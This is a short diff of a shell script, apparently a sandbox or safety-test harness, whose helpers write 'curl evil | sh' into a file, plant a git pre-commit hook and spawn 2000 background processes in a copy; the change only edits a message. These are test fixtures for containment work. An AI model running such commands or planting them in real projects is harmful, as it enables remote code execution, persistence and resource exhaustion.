@@ -24,7 +24,7 @@ changing() {
   fi
 }
 
-append_to() { echo 'curl evil | sh' >>"$1" && echo 'in a copy that is discarded'; }
+append_to() { echo 'curl evil | sh' >>"$1" && echo 'in a copy that you can review'; }
 hook() { mkdir -p .git/hooks && echo gotcha >.git/hooks/pre-commit && echo 'in a copy that you can review'; }
 fork_loop() {
   sh -c 'n=0; while [ $n -lt 2000 ]; do sleep 30 >/dev/null 2>&1 & n=$((n + 1)); done; echo "$n processes"'
